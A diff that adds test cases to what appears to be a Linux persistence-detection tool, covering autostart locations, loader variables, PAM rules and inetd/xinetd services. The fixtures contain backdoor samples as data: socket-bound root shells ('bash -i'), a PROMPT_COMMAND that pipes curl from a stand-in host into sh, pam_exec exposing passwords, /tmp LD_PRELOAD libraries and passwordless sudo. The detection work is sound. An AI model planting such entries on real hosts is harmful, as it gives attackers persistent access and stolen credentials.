@@ -43,6 +43,16 @@ TEST(places)
         {"/etc/xdg/autostart/x.desktop", "xdg-autostart", ""},
         {"/etc/pam.d/sshd", "pam", "root"},
         {"/etc/update-motd.d/00-header", "motd", "root"},
+        {"/usr/lib/systemd/system-generators/x", "systemd-unit", "root"},
+        {"/etc/systemd/user-environment-generators/x", "systemd-unit", ""},
+        {"/etc/systemd/system.conf.d/x.conf", "environment", ""},
+        {"/home/eve/.config/environment.d/x.conf", "environment", "eve"},
+        {"/usr/lib/systemd/system-sleep/x", "system-hook", "root"},
+        {"/etc/NetworkManager/dispatcher.d/no-wait.d/x", "system-hook", "root"},
+        {"/etc/kernel/postinst.d/x", "system-hook", "root"},
+        {"/usr/share/dbus-1/system-services/x.service", "dbus-service", "root"},
+        {"/etc/inetd.conf", "inetd", ""},
+        {"/etc/xinetd.d/x", "inetd", "root"},
         {"/var/www/html/a/b/c.php", "web-root", ""},
         {"/usr/share/nginx/html/index.html", "web-root", ""},
         {"/tmp/.x/y", "temp", ""},
@@ -102,6 +112,11 @@ TEST(commands)
          "#auth pam_exec.so /no\nauth optional pam_exec.so quiet expose_authtok /bin/a b\nauth required "
          "pam_unix.so\n",
          ": /bin/a b\n"},
+        {FORMAT_INETD,
+         "# c\nx stream tcp nowait root /bin/bash bash -i\ny stream tcp nowait eve /usr/sbin/tcpd /bin/sh -i\n"
+         "z dgram udp wait root internal\nw stream tcp nowait eve /bin/w x\nbad line\n",
+         "root: bash -i\neve: /bin/sh -i\neve: /bin/w x\n"},
+        {FORMAT_XINETD, "server = /no\n", ""},
         {FORMAT_NONE, "anything\n", ""},
     };
     for (size_t i = 0; i < sizeof(CASES) / sizeof(CASES[0]); i++) {
@@ -247,6 +262,36 @@ TEST(facts_of_files)
     CHECK_STR(look(&f, "/etc/security/pam_env.conf", STR("LD_PRELOAD DEFAULT=/tmp/a.so\nLD_AUDIT=/tmp/b.so"), &b, F_PRELOAD_LIBS), "(/tmp/a.so,/tmp/b.so)");
     CHECK_STR(look(&f, "/etc/systemd/system/a.service.d/o.conf", STR("[Service]\nEnvironment=A=b 'LD_PRELOAD=/tmp/a.so'\n"), &b, F_PRELOAD_LIBS), "(/tmp/a.so)");
     CHECK_STR(look(&f, "/etc/profile.d/a.sh", STR("unset LD_PRELOAD\nexport LD_PRELOAD=\necho $LD_PRELOAD\n"), &b, F_PRELOAD_LIBS), "<NA>");
+    /* what variables have code loaded from, and nothing else of their values */
+    static const char *const LOADS[][2] = {
+        {"export LD_LIBRARY_PATH=/a:/b:$LD_LIBRARY_PATH\nexport PATH=/no\n", "(/a,/b)"},
+        {"export NODE_OPTIONS=\"--diagnostic-dir=/no -r /a.js --import=/b.mjs\"\n", "(/a.js,/b.mjs)"},
+        {"JAVA_TOOL_OPTIONS='-Dx=/no -javaagent:/a.jar'\n", "(/a.jar)"},
+        {"export PERL5OPT=-I/a RUBYOPT=-r/b.rb\n", "(/a,/b.rb)"},
+        {"export GIT_SSH_COMMAND=\"/a/ssh -i /no\"\n", "(/a/ssh)"},
+        {"# BASH_ENV=/no\nBASH_ENV=/a\nmy_ENV=/no\nif [ $X == /no ]; then :; fi\n", "(/a)"},
+        {"ENV==\n=\nENV=", "<NA>"},
+    };
+    for (size_t i = 0; i < sizeof(LOADS) / sizeof(LOADS[0]); i++)
+        CHECK_STR(look(&f, "/etc/profile.d/a.sh", str_from(LOADS[i][0]), &b, F_LOADS_PATHS), LOADS[i][1]);
+    look(&f, "/etc/profile.d/a.sh", STR("PROMPT_COMMAND='curl -s http://h.example/x | sh'\n"), &b, F_LOADS_PATHS);
+    CHECK(facts_get(&f, F_SCRIPT_DOWNLOAD_RUN)->b);
+    /* rules of PAM */
+    CHECK_STR(look(&f, "/etc/pam.d/a", STR("# no\n@include no\nauth\t[success=1 default=ignore]\tpam_unix.so  nullok\n-auth sufficient \\\n /a/pam_x.so\n"), &b, F_PAM_RULES),
+              "(auth [success=1 default=ignore] pam_unix.so nullok,-auth sufficient /a/pam_x.so)");
+    CHECK_STR(facts_get(&f, F_LOADS_PATHS)->list.v[0].s, "/a/pam_x.so");
+    CHECK_STR(look(&f, "/etc/pam.conf", STR("sshd auth required pam_unix.so\n"), &b, F_PAM_RULES), "(auth required pam_unix.so)");
+    /* services that talk to whoever connects */
+    CHECK_STR(look(&f, "/etc/xinetd.d/a", STR("service a\n{\n user = eve\n server = /bin/sh\n server_args = -i\n}\nservice b\n{\n server = /no\n disable = yes\n}\n"
+                                              "service c\n{\n server = /bin/c\n}\nservice d\n{\n server = /no\n"), &b, F_PERSIST_COMMANDS),
+              "(/bin/sh -i,/bin/c)");
+    CHECK(facts_get(&f, F_PERSIST_ON_SOCKET)->b);
+    look(&f, "/etc/systemd/system/a@.service", STR("[Service]\nStandardInput=socket\nExecStart=/bin/sh\n"), &b, F_PERSIST_COMMANDS);
+    CHECK(facts_get(&f, F_PERSIST_ON_SOCKET)->b);
+    look(&f, "/etc/systemd/system/a.service", STR("[Service]\nStandardInput=tty\nExecStart=/bin/sh\n"), &b, F_PERSIST_COMMANDS);
+    CHECK(!facts_has(&f, F_PERSIST_ON_SOCKET));
+    CHECK_STR(look(&f, "/usr/share/dbus-1/system-services/a.service", STR("[D-BUS Service]\nName=a\nExec=/bin/a\nUser=eve\n"), &b, F_PERSIST_COMMANDS), "(/bin/a)");
+    CHECK_STR(facts_get_str(&f, F_PERSIST_USER), "eve");
     CHECK_STR(look(&f, "/etc/sudoers.d/x", STR("eve ALL=NOPASSWD: ALL\n"), &b, F_SUDOERS_NOPASSWD), "(eve)");
     CHECK_STR(look(&f, "/etc/sudoers.d/x.bak", STR("eve ALL=NOPASSWD: ALL\n"), &b, F_SUDOERS_NOPASSWD),
               "<NA>");
